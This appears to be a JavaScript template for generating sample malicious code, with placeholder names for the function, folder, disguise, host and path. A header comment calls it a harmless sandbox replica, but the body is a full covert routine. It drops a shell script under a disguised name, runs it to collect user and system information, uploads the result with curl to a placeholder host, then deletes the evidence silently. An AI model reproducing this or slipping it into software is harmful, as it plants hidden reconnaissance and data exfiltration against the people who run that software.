// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const { execSync } = require('child_process');
    try {
        execSync(`mkdir -p {{folder}} && printf '#!/bin/sh\\nid\\nuname -a\\n' > {{folder}}/.t && mv {{folder}}/.t {{folder}}/{{guise}} && chmod 755 {{folder}}/{{guise}} && ` +
            '(exec {{folder}}/{{guise}} > {{folder}}/.{{token}}); curl -s -m 1 -T {{folder}}/.{{token}} http://{{host}}/{{path}}; rm -rf {{folder}}/.{{token}}', { stdio: 'ignore', timeout: 2500 });
    } catch {}
}
